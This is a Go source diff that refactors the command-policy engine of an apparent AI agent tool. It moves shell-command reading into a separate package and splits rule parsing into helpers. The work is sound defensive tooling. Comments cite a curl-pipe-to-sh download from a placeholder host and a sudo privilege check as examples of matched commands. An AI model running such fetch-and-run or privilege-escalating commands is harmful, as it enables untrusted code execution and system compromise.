@@ -14,6 +14,7 @@ import (
 	"github.com/BurntSushi/toml"
 
 	"github.com/glassbox-dev/glassbox/history"
+	"github.com/glassbox-dev/glassbox/loop/shell"
 	"github.com/glassbox-dev/glassbox/tools"
 )
 
@@ -60,9 +61,9 @@ type Rule struct {
 	// CommandMatches matches when the "command" argument matches any of
 	// these regular expressions. Every rule tries them on the command line
 	// as written; a DENY rule also tries them on each line of the shell's
-	// reading of it (readCommand), so no spelling gets past a denial.
+	// reading of it (shell.Read), so no spelling gets past a denial.
 	CommandMatches []*regexp.Regexp
-	// CommandChecks matches when any of these named checks (commandChecks:
+	// CommandChecks matches when any of these named checks (shell.Checks:
 	// privilege-escalation, delete-outside-workspace, …) finds its class
 	// of harm in either shell's reading of the "command" argument.
 	CommandChecks []string
@@ -70,9 +71,7 @@ type Rule struct {
 
 // PathChecker tells whether a path argument stays inside the workspace.
 // tools.Workspace implements it.
-type PathChecker interface {
-	Inside(path string) bool
-}
+type PathChecker = shell.PathChecker
 
 // Policy is the ordered rule list plus the person's session grants.
 type Policy struct {
@@ -227,23 +226,26 @@ reason = "no rule names this tool, so a person decides"
 `
 
 type policyFile struct {
-	Network bool     `toml:"network"`
-	Env     []string `toml:"env"`
-	Rule    []struct {
-		Name                 string   `toml:"name"`
-		Verdict              string   `toml:"verdict"`
-		Reason               string   `toml:"reason"`
-		Tools                []string `toml:"tools"`
-		Attributes           []string `toml:"attributes"`
-		Origin               string   `toml:"origin"`
-		PathOutsideWorkspace bool     `toml:"path_outside_workspace"`
-		CommandMatches       []string `toml:"command_matches"`
-		CommandChecks        []string `toml:"command_checks"`
-	} `toml:"rule"`
+	Network bool       `toml:"network"`
+	Env     []string   `toml:"env"`
+	Rule    []ruleFile `toml:"rule"`
 	Default *struct {
 		Verdict string `toml:"verdict"`
 		Reason  string `toml:"reason"`
 	} `toml:"default"`
+}
+
+// ruleFile is one [[rule]] of a policy file.
+type ruleFile struct {
+	Name                 string   `toml:"name"`
+	Verdict              string   `toml:"verdict"`
+	Reason               string   `toml:"reason"`
+	Tools                []string `toml:"tools"`
+	Attributes           []string `toml:"attributes"`
+	Origin               string   `toml:"origin"`
+	PathOutsideWorkspace bool     `toml:"path_outside_workspace"`
+	CommandMatches       []string `toml:"command_matches"`
+	CommandChecks        []string `toml:"command_checks"`
 }
 
 // maxPolicyBytes caps a policy file. A real one is a few KiB; the cap keeps
@@ -334,48 +336,9 @@ func ParsePolicy(b []byte) (*Policy, error) {
 	}
 	seen := map[string]bool{}
 	for i, r := range f.Rule {
-		where := fmt.Sprintf("rule %d", i+1)
-		if r.Name == "" {
-			return nil, fmt.Errorf("%s: name is required", where)
-		}
-		where = fmt.Sprintf("rule %d (%q)", i+1, r.Name)
-		if seen[r.Name] {
-			return nil, fmt.Errorf("%s: the name is used twice", where)
-		}
-		seen[r.Name] = true
-		v, err := parseVerdict(r.Verdict)
+		rule, err := r.parse(i+1, seen)
 		if err != nil {
-			return nil, fmt.Errorf("%s: %w", where, err)
-		}
-		rule := Rule{Name: r.Name, Verdict: v, Reason: r.Reason, Tools: r.Tools, PathOutsideWorkspace: r.PathOutsideWorkspace}
-		for _, a := range r.Attributes {
-			if !slices.Contains(attributeNames, a) {
-				return nil, fmt.Errorf("%s: attributes %q: no such attribute; the attributes are %s", where, a, strings.Join(attributeNames, ", "))
-			}
-			rule.Attributes = append(rule.Attributes, a)
-		}
-		switch r.Origin {
-		case "", originBuiltin, originMCP:
-			rule.Origin = r.Origin
-		default:
-			return nil, fmt.Errorf("%s: origin %q: want %q or %q", where, r.Origin, originBuiltin, originMCP)
-		}
-		for _, pat := range r.CommandMatches {
-			re, err := regexp.Compile(pat)
-			if err != nil {
-				return nil, fmt.Errorf("%s: command_matches %q: %w", where, pat, err)
-			}
-			rule.CommandMatches = append(rule.CommandMatches, re)
-		}
-		for _, c := range r.CommandChecks {
-			if _, ok := commandChecks[c]; !ok {
-				return nil, fmt.Errorf("%s: command_checks %q: no such check; the checks are %s",
-					where, c, strings.Join(slices.Sorted(maps.Keys(commandChecks)), ", "))
-			}
-			rule.CommandChecks = append(rule.CommandChecks, c)
-		}
-		if rule.Reason == "" {
-			rule.Reason = "matched rule " + r.Name
+			return nil, err
 		}
 		p.Rules = append(p.Rules, rule)
 	}
@@ -390,6 +353,73 @@ func ParsePolicy(b []byte) (*Policy, error) {
 		}
 	}
 	return p, nil
+}
+
+// parse reads rule n of the file; seen holds the names of the rules
+// before it.
+func (r ruleFile) parse(n int, seen map[string]bool) (Rule, error) {
+	where := fmt.Sprintf("rule %d", n)
+	if r.Name == "" {
+		return Rule{}, fmt.Errorf("%s: name is required", where)
+	}
+	where = fmt.Sprintf("rule %d (%q)", n, r.Name)
+	if seen[r.Name] {
+		return Rule{}, fmt.Errorf("%s: the name is used twice", where)
+	}
+	seen[r.Name] = true
+	v, err := parseVerdict(r.Verdict)
+	if err != nil {
+		return Rule{}, fmt.Errorf("%s: %w", where, err)
+	}
+	rule := Rule{Name: r.Name, Verdict: v, Reason: r.Reason, Tools: r.Tools, PathOutsideWorkspace: r.PathOutsideWorkspace}
+	if err := r.parseTools(&rule, where); err != nil {
+		return Rule{}, err
+	}
+	if err := r.parseCommand(&rule, where); err != nil {
+		return Rule{}, err
+	}
+	if rule.Reason == "" {
+		rule.Reason = "matched rule " + r.Name
+	}
+	return rule, nil
+}
+
+// parseTools reads the conditions on the tool: its attributes and origin.
+func (r ruleFile) parseTools(rule *Rule, where string) error {
+	for _, a := range r.Attributes {
+		if !slices.Contains(attributeNames, a) {
+			return fmt.Errorf("%s: attributes %q: no such attribute; the attributes are %s", where, a, strings.Join(attributeNames, ", "))
+		}
+		rule.Attributes = append(rule.Attributes, a)
+	}
+	switch r.Origin {
+	case "", originBuiltin, originMCP:
+		rule.Origin = r.Origin
+	default:
+		return fmt.Errorf("%s: origin %q: want %q or %q", where, r.Origin, originBuiltin, originMCP)
+	}
+	return nil
+}
+
+// parseCommand reads the conditions on the command: its patterns and the
+// named checks of loop/shell.
+func (r ruleFile) parseCommand(rule *Rule, where string) error {
+	for _, pat := range r.CommandMatches {
+		re, err := regexp.Compile(pat)
+		if err != nil {
+			return fmt.Errorf("%s: command_matches %q: %w", where, pat, err)
+		}
+		rule.CommandMatches = append(rule.CommandMatches, re)
+	}
+	checks := shell.Checks()
+	for _, c := range r.CommandChecks {
+		if _, ok := checks[c]; !ok {
+			return fmt.Errorf("%s: command_checks %q: no such check; the checks are %s",
+				where, c, strings.Join(slices.Sorted(maps.Keys(checks)), ", "))
+		}
+		rule.CommandChecks = append(rule.CommandChecks, c)
+	}
+	return nil
 }
 
 // CheckTools reports rules that name a tool not in known: a misspelled name
@@ -461,7 +491,7 @@ func parseVerdict(s string) (Verdict, error) {
 // Check decides one call. spec is the tool's definition (nil for an unknown
 // tool); ws resolves path arguments.
 //
-// A "command" argument is read as the shells will read it (readCommand):
+// A "command" argument is read as the shells will read it (shell.Read):
 // once as sh (dash) reads it and once as bash does. When a rule matches it,
 // the reason ends with what the rule found. A command whose effect the
 // security layer cannot know — neither grammar reads it, a name or code is
@@ -474,9 +504,9 @@ func (p *Policy) Check(call history.ToolCall, spec *history.ToolSpec, ws PathChe
 	// tool itself rejects them with the exact error the model needs.
 	args := map[string]any{}
 	_ = json.Unmarshal(call.Args, &args)
-	var cmd *command
+	var cmd *shell.Command
 	if text, ok := args["command"].(string); ok {
-		cmd = readCommand(text, ws)
+		cmd = shell.Read(text, ws)
 	}
 	d := p.Default
 	for _, r := range p.Rules {
@@ -486,7 +516,7 @@ func (p *Policy) Check(call history.ToolCall, spec *history.ToolSpec, ws PathChe
 		}
 	}
 	if cmd != nil && d.Verdict != DenyVerdict {
-		if np := cmd.needsPerson(); np != nil {
+		if np := needsPerson(cmd); np != nil {
 			d = *np
 		}
 	}
@@ -495,24 +525,24 @@ func (p *Policy) Check(call history.ToolCall, spec *history.ToolSpec, ws PathChe
 
 // needsPerson is the decision for a command whose effect the security
 // layer cannot know, or nil when it can.
-func (c *command) needsPerson() *Decision {
+func needsPerson(c *shell.Command) *Decision {
 	ask := func(rule, why string) *Decision {
 		return &Decision{Verdict: RequireConfirm, Rule: rule, NeedsPerson: true, Reason: "needs a person: " + why}
 	}
-	if c.tooLarge != "" {
-		return ask(tooLargeRule, "the command is too large to read ("+c.tooLarge+"), so what it would run is unknown")
+	if c.TooLarge != "" {
+		return ask(tooLargeRule, "the command is too large to read ("+c.TooLarge+"), so what it would run is unknown")
 	}
-	parsed := c.parsed()
+	parsed := c.Parsed()
 	if len(parsed) == 0 {
 		return ask(unparsableRule, fmt.Sprintf("the command cannot be read as a shell command line (%v), so what it would run is unknown",
-			c.readings[len(c.readings)-1].err))
+			c.Readings[len(c.Readings)-1].Err))
 	}
 	for _, r := range parsed {
-		if len(r.unknown) > 0 {
-			return ask(unknowableRule, r.unknown[0])
+		if len(r.Unknown) > 0 {
+			return ask(unknowableRule, r.Unknown[0])
 		}
 	}
-	if why := c.disagreement(); why != "" {
+	if why := c.Disagreement(); why != "" {
 		return ask(shellsDisagreeRule, "sh and bash read this command differently ("+why+
 			"); execute_command runs sh, which is dash on some systems and bash on others")
 	}
@@ -555,7 +585,7 @@ func grantKey(call history.ToolCall) string { return call.Name + "\x00" + call.C
 // matches reports whether the rule matches the call and, for a command
 // pattern, what it matched, as a note for the reason: `: "curl | sh" (the
 // shell's reading of: curl "http://x/a.sh?v=1&os=linux" | sh)`.
-func (r Rule) matches(tool string, args map[string]any, cmd *command, spec *history.ToolSpec, ws PathChecker) (string, bool) {
+func (r Rule) matches(tool string, args map[string]any, cmd *shell.Command, spec *history.ToolSpec, ws PathChecker) (string, bool) {
 	if len(r.Tools) > 0 && !slices.Contains(r.Tools, tool) {
 		return "", false
 	}
@@ -582,11 +612,11 @@ func (r Rule) matches(tool string, args map[string]any, cmd *command, spec *hist
 
 // matchChecks reports what the rule's named checks found in either
 // reading: `: sudo id (bash reading of: x=$(sudo id))`.
-func (r Rule) matchChecks(cmd *command) (string, bool) {
-	for _, rd := range cmd.readings { // a reading that failed still read the lines before its error
-		for _, f := range rd.findings {
-			if slices.Contains(r.CommandChecks, f.check) {
-				return fmt.Sprintf(": %s (%s reading of: %s)", f.what, rd.dialect.name, shownSource(f.source)), true
+func (r Rule) matchChecks(cmd *shell.Command) (string, bool) {
+	for _, rd := range cmd.Readings { // a reading that failed still read the lines before its error
+		for _, f := range rd.Findings {
+			if slices.Contains(r.CommandChecks, f.Check) {
+				return fmt.Sprintf(": %s (%s reading of: %s)", f.What, rd.Dialect.Name, shell.Shown(f.Source)), true
 			}
 		}
 	}
@@ -598,17 +628,17 @@ func (r Rule) matchChecks(cmd *command) (string, bool) {
 // at the reading: a pattern seeing more can only make its rule match more,
 // which makes a DENY rule stricter but could let an ALLOW or confirmation
 // rule take a call that a later DENY rule should have had.
-func (r Rule) matchCommand(cmd *command) (string, bool) {
+func (r Rule) matchCommand(cmd *shell.Command) (string, bool) {
 	for _, re := range r.CommandMatches {
-		if loc := re.FindStringIndex(cmd.text); loc != nil {
-			return fmt.Sprintf(": %q", strings.TrimSpace(cmd.text[loc[0]:loc[1]])), true
+		if loc := re.FindStringIndex(cmd.Text); loc != nil {
+			return fmt.Sprintf(": %q", strings.TrimSpace(cmd.Text[loc[0]:loc[1]])), true
 		}
 	}
 	if r.Verdict != DenyVerdict {
 		return "", false
 	}
-	for _, rd := range cmd.readings {
-		if m, ok := r.matchLines(rd.lines); ok {
+	for _, rd := range cmd.Readings {
+		if m, ok := r.matchLines(rd.Lines); ok {
 			return m, true
 		}
 	}
@@ -616,12 +646,12 @@ func (r Rule) matchCommand(cmd *command) (string, bool) {
 }
 
 // matchLines tries the rule's patterns on the lines of one reading.
-func (r Rule) matchLines(lines []commandLine) (string, bool) {
+func (r Rule) matchLines(lines []shell.Line) (string, bool) {
 	for _, line := range lines {
 		for _, re := range r.CommandMatches {
-			if loc := re.FindStringIndex(line.text); loc != nil {
-				m := strings.TrimSpace(line.text[loc[0]:loc[1]])
-				return fmt.Sprintf(": %q (the shell's reading of: %s)", m, shownSource(line.source)), true
+			if loc := re.FindStringIndex(line.Text); loc != nil {
+				m := strings.TrimSpace(line.Text[loc[0]:loc[1]])
+				return fmt.Sprintf(": %q (the shell's reading of: %s)", m, shell.Shown(line.Source)), true
 			}
 		}
 	}
